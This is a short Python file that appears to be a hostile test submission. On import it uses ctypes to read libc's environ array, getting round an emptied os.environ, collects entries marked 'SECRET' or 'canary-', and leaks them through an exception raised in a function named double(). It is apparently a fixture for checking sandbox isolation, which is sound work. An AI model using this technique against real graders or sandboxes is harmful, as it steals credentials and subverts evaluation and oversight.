"""Reads its own memory, which is a copy of the process it was forked from, for the grader's secrets.

The first argument and environment strings of a process lie next to each other at the end of its
stack, also after Python's own `os.environ` has been emptied.
"""

import ctypes

loot = []
libc = ctypes.CDLL(None)
environ = ctypes.POINTER(ctypes.c_char_p).in_dll(libc, "environ")
number = 0
while environ and environ[number]:
    entry = environ[number].decode(errors="replace")
    if "SECRET" in entry or "canary-" in entry:
        loot.append(entry)
    number += 1


def double(x):
    if loot:
        raise ValueError(f"stolen: {loot}")
    return None
